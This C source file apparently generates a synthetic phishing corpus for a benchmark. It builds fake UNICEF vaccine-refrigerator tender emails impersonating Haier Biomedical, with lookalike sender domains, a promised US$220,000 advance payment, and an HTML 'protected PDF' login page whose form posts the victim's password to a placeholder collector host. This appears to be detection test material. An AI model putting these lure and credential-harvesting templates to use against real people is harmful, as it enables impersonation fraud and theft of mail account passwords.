#include "bench/corpus/lure.h"

const char *lure_title(struct prng *prng)
{
    static const char *const titles[] = {
        "RFQ - UNICEF CCEOP and Vaccine Project", "RFQ - UNICEF CCEOP and Vaccine Project",
        "RFQ - UNICEF CCEOP and Vaccine Program", "RFQ - UNICEF CCEOP and Vaccine Programme",
        "RFQ - UNICEF CCEOP & Vaccine Project",   "RFQ - UNICEF CCEOP & Vaccine Program",
    };
    return titles[prng_below(prng, 6)];
}

const char *lure_claimed_name(struct prng *prng)
{
    static const char *const names[] = {
        "Haier Biomedical",
        "HAIER BIOMEDICAL",
        "haier.biomedical",
        "Haier-Biomedical Export",
        "Haier_Medical Procurement",
        "Haier Medical",
        "Deng Haoran - Haier Biomedical",
        "Project Office Africa, Haier Biomedical",
    };
    return names[prng_below(prng, 8)];
}

void lure_imitating_address(struct prng *prng, struct buffer *out)
{
    static const char *const local_parts[] = {"deng.haoran", "lin.qiaoyun", "africa.projects",
                                              "export", "contracts"};
    static const char *const domains[] = {
        "haierbiomedical.example", "haier-biomedical.example", "haierbiomedica1.example",
        "haiermedical.example",    "haierbiomedicals.example", "haierbiomedical-africa.example",
    };
    const char *local_part = local_parts[prng_below(prng, 5)];
    buffer_format(out, "%s@%s", local_part, domains[prng_below(prng, 6)]);
}

void lure_text(struct letter *letter, const char *salutation, const char *title, struct buffer *out)
{
    static const char *const models[] = {"HBC-260", "HBCD-90", "HTC-112", "HTCD-160", "HTC-40"};
    struct prng *prng = &letter->prng;
    uint32_t quantity = 480 + 5 * prng_below(prng, 9);
    const char *model = models[prng_below(prng, 5)];
    buffer_format(out, "%s\n\n", salutation);
    switch (prng_below(prng, 3)) {
    case 0:
        buffer_format(out,
                      "We wish to place an order with your company for the CCEOP and the coming "
                      "vaccine\ncampaign: about %u vaccine refrigerators, solar-powered and "
                      "ice-lined (model %s).\n\n",
                      quantity, model);
        break;
    case 1:
        buffer_format(out,
                      "For the Cold Chain Equipment Optimisation Platform (CCEOP) of Gavi we need "
                      "a partner\nfor %u solar-powered vaccine refrigerators and ice-lined "
                      "refrigerators such as %s.\n\n",
                      quantity, model);
        break;
    default:
        buffer_format(out,
                      "Our office prepares the CCEOP deliveries of UNICEF. Please quote your best "
                      "price for\n%u vaccine refrigerators: solar-powered ones and the ice-lined "
                      "refrigerator %s.\n\n",
                      quantity, model);
        break;
    }
    if (title != NULL) {
        buffer_format(out, "Reference of the tender:\n%s\n\n", title);
    }
    buffer_append_string(
        out, "The draft of contract is attached. It is protected; use your mail account "
             "to open it.\nAn advance payment of US$220,000 is made up front, as soon as "
             "it has come back signed.\n\n");
}

void lure_signature(struct letter *letter, bool claims_name, struct buffer *out)
{
    static const char *const roles_claimed[] = {
        "Project Manager for Africa",
        "Regional Sales Director",
        "Business Manager, Cold Chain",
    };
    buffer_format(out, "Best regards,\n\nDeng Haoran\n%s\n%s\n",
                  roles_claimed[prng_below(&letter->prng, 3)],
                  claims_name ? "Haier Biomedical" : "Vaccine Cold Chain Office");
}

void lure_page(struct letter *letter, const char *charset, const char *address, struct buffer *out)
{
    static const char *const inputs[] = {
        "<input type=\"password\" name=\"pass\" placeholder=\"Password\" required>",
        "<INPUT TYPE='password' NAME='pw'>",
        "<input class=\"field\" name=\"code\" type=password autocomplete=\"off\">",
    };
    static const char *const scripts[] = {"next", "post", "login", "pdf"};
    struct prng *prng = &letter->prng;
    buffer_format(out,
                  "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"%s\">\n"
                  "<title>Protected document</title>\n<style>\nbody { background: #525659; "
                  "font-family: sans-serif; }\n.sheet { background: white; width: 40em; margin: "
                  "4em auto; padding: 2em; }\n</style>\n</head>\n<body>\n",
                  charset);
    uint32_t host = prng_below(prng, 40);
    uint32_t folder = prng_below(prng, 65536);
    const char *script = scripts[prng_below(prng, 4)];
    buffer_format(out,
                  "<div class=\"sheet\">\n<h1>PDF document</h1>\n<p>This file is protected. Sign "
                  "in with your mail account to view the document.</p>\n"
                  "<form method=\"post\" action=\"https://collector-%02u.example/%x/%s.php\">\n",
                  host, folder, script);
    buffer_format(out, "<input type=\"text\" name=\"user\" value=\"%s\" readonly>\n%s\n", address,
                  inputs[prng_below(prng, 3)]);
    buffer_append_string(out,
                         "<button>View document</button>\n</form>\n</div>\n</body>\n</html>\n");
}
